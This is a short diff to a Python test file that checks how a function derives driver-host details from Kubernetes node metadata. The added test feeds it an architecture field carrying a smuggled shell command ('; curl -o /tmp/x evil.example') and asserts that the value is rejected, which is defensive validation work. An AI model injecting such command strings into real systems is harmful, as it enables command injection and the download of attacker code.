@@ -82,6 +82,8 @@ def test_a_node_by_what_its_image_is_chosen() -> None:
     assert driver_host(NODE) == DriverHost("worker-1", "ubuntu", "22.04", "5.15.0-91-generic", "amd64", "", True)
     bare = driver_host({**NODE, "metadata": {"name": "worker-1"}})
     assert bare == DriverHost("worker-1", kernel="5.15.0-92-generic", machine="amd64"), "without node feature discovery the kubelet tells the kernel"
+    info = {**NODE["status"]["nodeInfo"], "architecture": "amd64; curl -o /tmp/x evil.example"}
+    assert driver_host({**NODE, "status": {**NODE["status"], "nodeInfo": info}}).machine == "", "it stands in a command"
 
 
 @pytest.mark.parametrize(
